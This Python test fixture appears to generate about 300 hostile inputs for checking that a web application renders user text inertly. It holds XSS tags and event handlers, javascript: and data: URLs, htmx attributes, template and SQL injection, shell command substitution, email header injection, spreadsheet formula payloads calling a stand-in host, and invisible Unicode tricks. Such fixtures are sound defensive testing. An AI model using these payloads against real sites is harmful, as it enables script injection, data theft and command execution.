"""300 texts that nobody should be able to do anything with, and texts that are too long.

Whatever could run calls ran(), opens a dialog, or asks ELSEWHERE or EFFECT for something: a browser notices all of it.
"""

ELSEWHERE = "https://elsewhere.example"
# An address of the site itself that nothing but a text would ask for.
EFFECT = "/hx-effect/"
_RUN = "ran(1)"

_TAGS = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script >{run}</script >", "<scr<script>ipt>{run}</script>",
    "<script src={else}/x.js></script>", "<script src=//elsewhere.example/x.js>", "<script>{run}", "<script/x>{run}</script>",
    '<script type="module">{run}</script>', "<script>import('{else}/m.js')</script>", "<script\n>{run}</script\n>",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", '<img src="x" onerror="{run}">', "<img/src=x/onerror={run}>",
    "<IMG SRC=x ONERROR={run}>", "<img src={else}/pixel.gif>", "<img srcset='{else}/a.png 1x'>", "<image href=x onerror={run}>",
    "<img src=x onerror=alert`1`>", "<img src=`x`onerror={run}>", "<img src=x onerror=eval(atob('cmFuKDEp'))>",
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>", "<svg><script href={else}/x.js /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set onbegin={run} attributeName=x to=y>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>", "<svg><use href='{else}/x.svg#x'></svg>",
    "<svg><image href={else}/x.png></svg>", "<svg><style>@import url({else}/x.css);</style></svg>",
    "<svg><foreignObject><body onload={run}></foreignObject></svg>", "<svg><title><style><img src=x onerror={run}></style></title></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<math href='javascript:{run}'>x</math>",
    "<iframe src='javascript:{run}'></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={else}></iframe>", "<object data='javascript:{run}'></object>", "<object data={else}/x.swf></object>",
    "<embed src={else}/x.swf>", "<embed src='javascript:{run}'>", "<applet code=x>", "<frameset onload={run}>",
    "<base href={else}/>", "<link rel=stylesheet href={else}/x.css>", "<link rel=preload as=script href={else}/x.js>",
    "<link rel=prefetch href={else}/>", "<meta http-equiv=refresh content='0;url={else}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<style>@import '{else}/x.css';</style>",
    "<style>body{background:url({else}/x.png)}</style>", "<div style='background:url({else}/y.png)'>x</div>",
    "<div style='width:expression({run})'>x</div>", "<table background={else}/t.png><tr><td>x</table>",
    "<form action={else} method=post><input type=submit value=Go></form>", "<button formaction='javascript:{run}'>Go</button>",
    "<input type=image src={else}/i.png onerror={run}>", "<isindex type=image src=x onerror={run}>",
    "<bgsound src={else}/x.mid>", "<layer src={else}/x.js></layer>", "<xml onreadystatechange={run}>",
    "<template><script>{run}</script></template>", "<noscript><img src=x onerror={run}></noscript>",
    "<dialog open oncancel={run}>x</dialog>", "<portal src={else}></portal>", "<custom-element onclick={run}>x</custom-element>",
)  # fmt: skip
_HANDLERS = (
    "onload", "onerror", "onfocus", "onblur", "onclick", "onmouseover", "onmouseenter", "onpointerover", "ontoggle", "onscroll",
    "onwheel", "onanimationstart", "onanimationend", "ontransitionend", "onpageshow", "onhashchange", "onbeforeprint",
    "oncopy", "onpaste", "oncut", "ondrag", "ondrop", "oninput", "onchange", "onsubmit", "oninvalid", "onkeydown", "onresize",
    "onplay", "oncanplay", "onloadstart", "onended", "oncuechange", "onbeforetoggle", "onsearch", "onfocusin", "onselectstart",
)  # fmt: skip
_BREAKERS = (
    "</summary></details><img src=x onerror={run}>", "</h2><script>{run}</script>", "</dd></dl><img src=x onerror={run}>", "</td></tr></table><svg onload={run}>",
    "</label><input autofocus onfocus={run}>", "</code></pre><script>{run}</script>", "</blockquote><img src=x onerror={run}>",
    '"><script>{run}</script>', "'><script>{run}</script>", '" autofocus onfocus="{run}', "' autofocus onfocus='{run}",
    '" onmouseover="{run}" x="', "` onmouseover=`{run}", '"/><svg onload={run}>', "--><script>{run}</script>", "<!--<img src='--><img src=x onerror={run}//'>",
    "]]><script>{run}</script>", "</textarea><script>{run}</script>", "</title><script>{run}</script>", "</style><script>{run}</script>",
    "</script><script>{run}</script>", "</SCRIPT ><script>{run}</script>", "</noscript><script>{run}</script>", "</template><img src=x onerror={run}>",
    "</option></select><img src=x onerror={run}>", "</a><a href='javascript:{run}'>x</a>", "</button><img src=x onerror={run}>",
    "</p></div></main></body></html><script>{run}</script>", '","@type":"x","x":"</script><script>{run}</script>', "<!--<script>{run}", "<![CDATA[<script>{run}</script>]]>",
    '\\"};{run};//', "'-{run}-'", '"-{run}-"', "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;", "%3Cscript%3E{run}%3C/script%3E", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", " javascript:{run}", "javascript&colon;{run}",
    "javascript://%0a{run}", "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={run}>", "vbscript:{run}", "[x](javascript:{run})", "![x]({else}/x.png)", "<a href='javascript:{run}'>x</a>",
    "<a href=javascript:{run}>x</a>", "<a href='&#106;avascript:{run}'>x</a>", "[x]: javascript:{run}", "<javascript:{run}>",
    "{else}/plain", "//elsewhere.example/x", "\\\\elsewhere.example\\x", "file:///etc/passwd", "blob:{else}/x", "view-source:{else}",
)  # fmt: skip
_HX = (
    "get", "post", "put", "delete", "patch", "boost", "trigger", "on:load", "on::load", "on-load", "vals", "headers",
    "target", "swap-oob", "select-oob", "push-url", "replace-url", "ext", "include", "vars", "disinherit", "preserve",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7919*7919 }}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{% load static %}", "{% csrf_token %}", "{# x #}", "{% include 'x' %}",
    "${7919*7919}", "#{7919*7919}", "<%= 7919*7919 %>", "{{constructor.constructor('{run}')()}}", "{{request.user.password}}", "%(email)s %s %d", "{0.__class__}",
    "{{ ''.__class__.__mro__ }}", "[[7919*7919]]", "@(7919*7919)", "*{7919*7919}", "~{7919*7919}", "$(touch /tmp/x)", "`touch /tmp/x`", "; drop table reviews_review; --",
)  # fmt: skip
_UNSEEN = (
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066a\u2067b\u2068c", "\u2069\u2069\u2069", "\u200e\u200f", "\u061c\u061c", "\u200b\u200b\u200b", "a\u200bb\u200cc\u200dd",
    "\ufeffstart", "\u2060joined\u2060", "\u00adsoft\u00adhyphen", "\u180e", "\u115f\u1160", "\u3164\u3164", "\uffa0", "\u2800\u2800", "\U000e0041\U000e0042",
    "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff", "\U0010ffff", "\ue000\uf8ff", "\u2028line\u2029paragraph", "\x85next\x85", "\x1b[31mred\x1b[0m", "\x07\x08\x7f",
    "\x01\x02\x03\x04", "Z" + "\u0300" * 40, "e\u0301" * 20, "\u0e47" * 50, "\u0489" * 50, "\ufdfd" * 10, "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 4,
    "\U0001f1e9\U0001f1ea" * 10, "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>", "\u05e2\u05d1\u05e8\u05d9\u05ea\u202e<script>", "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u02b9\u02ba onx=1", "\u2039script\u203a", "\u0131\u017f\u212a",
)  # fmt: skip
_HEADERS = (
    "x\r\nBcc: all@elsewhere.example", "x\nBcc: all@elsewhere.example", "x\rSubject: other", "x\r\n\r\n<script>{run}</script>",
    "x%0d%0aSet-Cookie: a=b", "x\u2028Bcc: all@elsewhere.example", "=?utf-8?q?=0D=0ABcc:_x?=", "x\r\n.\r\nMAIL FROM:<x@elsewhere.example>",
    "\r\nContent-Type: text/html\r\n\r\n<svg onload={run}>", "\"><x@elsewhere.example>", "x@elsewhere.example,y@elsewhere.example", "a\tb\x0bc\x0cd",
)  # fmt: skip
_SHEETS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("{else}","x")', "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=WEBSERVICE("{else}")',
    '"=1+1"', "'=1+1", ';=1+1', "=IMPORTXML(\"{else}\",\"//a\")", "%0A=1+1",
)  # fmt: skip


def _filled(text: str) -> str:
    return text.replace("{run}", _RUN).replace("{else}", ELSEWHERE)


def _made() -> list[str]:
    made = [
        _filled(text)
        for texts in (
            _TAGS,
            _BREAKERS,
            _ADDRESSES,
            _TEMPLATES,
            _UNSEEN,
            _HEADERS,
            _SHEETS,
        )
        for text in texts
    ]
    for number, name in enumerate(_HANDLERS):
        tag = ("div tabindex=1", "input autofocus", "details open", "video src=x", "body", "marquee", "audio src=x")[number % 7]  # fmt: skip
        made.append(f"<{tag} {name}={_RUN}>x")
    for name in _HX:
        made.append(f"<i hx-{name}='{EFFECT}' hx-trigger='load'>x</i>")
        made.append(f"<i data-hx-{name}='js:{_RUN}' hx-trigger=load>x</i>")
    return list(dict.fromkeys(made))


TEXTS = _made()
# Refused at the door or by the field, each by itself.
UNSTORABLE = ("\x00", "a\x00b", "<script>\x00ran(1)</script>")


def packs(longest: int, shortest: int = 0) -> list[str]:
    """All texts, as many to a pack as fit; those that don't fit at all are left out."""
    made, pack = [], ""
    for text in TEXTS:
        if len(text) > longest:
            continue
        if len(pack) + len(text) + 1 > longest:
            made.append(pack)
            pack = ""
        pack = f"{pack}\n{text}" if pack else text
    made.append(pack)
    return [pack.ljust(shortest, ".") for pack in made]


def short(longest: int, shortest: int = 0) -> list[str]:
    """One by one, those that a field of one line takes."""
    return [text.ljust(shortest, ".") for text in TEXTS if len(text) <= longest]
